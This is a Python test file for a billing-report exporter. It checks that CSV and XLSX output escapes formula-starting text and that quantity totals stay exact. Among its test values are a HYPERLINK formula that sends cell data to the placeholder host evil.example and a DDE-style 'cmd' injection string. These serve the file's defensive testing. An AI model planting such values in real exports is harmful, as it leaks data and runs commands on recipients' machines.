"""Reports never run event text as a formula, and never round a quantity sum.

Found by review: a requester such as ``=HYPERLINK(...)`` reached the billing export's
CSV as a formula a spreadsheet runs, and the XLSX as a live formula; report totals
summed quantities with ``+`` (28 digits), so a quantity of bytes as GB (30 decimals),
rated exactly, was printed rounded.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports import writers
from reports.export import build_billing_export
from reports.provider import build_provider_statements
from reports.summary import build_summary
from reports.writers import write_csv, write_xlsx
from sinks.history.model import HistoryRow
from sinks.history.rows import row_from_rated
from tests.unit.sinks.history_records import rated_value

PERIOD = "2024-05"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
QUANTITY = "12345.001149782352149486541748046875"  # 12345 GB + 1234567 bytes, exact


def _rows(**overrides: object) -> list[HistoryRow]:
    return [row_from_rated(rated_value(0, **overrides), "usage.rated", 0, 0)]


@pytest.mark.parametrize(("text", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("alice", "alice"), ("a=b", "a=b"), ("", ""),
])
def test_text_that_would_start_a_formula_gets_a_leading_quote(text: str, shown: str) -> None:
    assert writers.inert_text(text) == shown


def test_the_export_csv_holds_no_cell_a_spreadsheet_would_run() -> None:
    out = io.StringIO()
    write_csv(build_billing_export(_rows(requester=FORMULA, service_item_id="+1+cmd|'!A0"),
                                   PERIOD), out)
    header, data = list(csv.reader(io.StringIO(out.getvalue())))[:2]
    cells = dict(zip(header, data, strict=True))
    assert cells["requester"] == "'" + FORMULA
    assert cells["service_item_id"] == "'+1+cmd|'!A0"
    assert not [cell for cell in data if cell[:1] in ("=", "+", "@")]
    # Money is not text: a negative amount would keep its sign (amounts are >= 0 here).
    assert cells["gross_amount"][:1].isdigit()


def test_the_export_xlsx_stores_event_text_as_text_not_as_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx(build_billing_export(_rows(requester=FORMULA), PERIOD), path)
    rows = list(load_workbook(path)["charges"].iter_rows())
    cell = rows[1][[c.value for c in rows[0]].index("requester")]
    assert cell.data_type == "s"
    assert cell.value == FORMULA


def test_summary_and_provider_statement_quantities_are_exact() -> None:
    summary = build_summary(_rows(quantity=QUANTITY), PERIOD, history_count=1)
    (sheet,) = summary.sheets
    detail = next(r for r in sheet.rows if r.level == "detail")
    assert detail.cells[sheet.columns.index("quantity")] == Decimal(QUANTITY)
    statements = build_provider_statements(_rows(quantity=QUANTITY, provider="acme",
                                                 product="acme-db"), PERIOD)
    sheet = statements.sheets[0]
    detail = next(r for r in sheet.rows if r.level == "detail")
    assert detail.cells[sheet.columns.index("quantity")] == Decimal(QUANTITY)
